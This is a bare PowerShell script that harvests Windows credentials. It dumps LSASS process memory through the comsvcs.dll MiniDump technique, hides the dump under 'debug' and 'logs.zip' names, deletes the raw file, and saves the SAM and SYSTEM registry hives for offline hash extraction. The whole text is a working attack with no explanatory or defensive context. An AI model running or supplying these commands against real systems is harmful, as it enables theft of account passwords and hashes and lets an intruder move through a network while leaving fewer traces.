$lsass = Get-Process -Name lsass
$out = "C:\Windows\Temp\debug_$($lsass.Id).dmp"
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $out full
Compress-Archive -Path $out -DestinationPath C:\Windows\Temp\logs.zip
Remove-Item -Path $out
reg.exe save HKLM\SAM C:\Windows\Temp\sam.sav /y
reg.exe save HKLM\SYSTEM C:\Windows\Temp\sys.sav /y
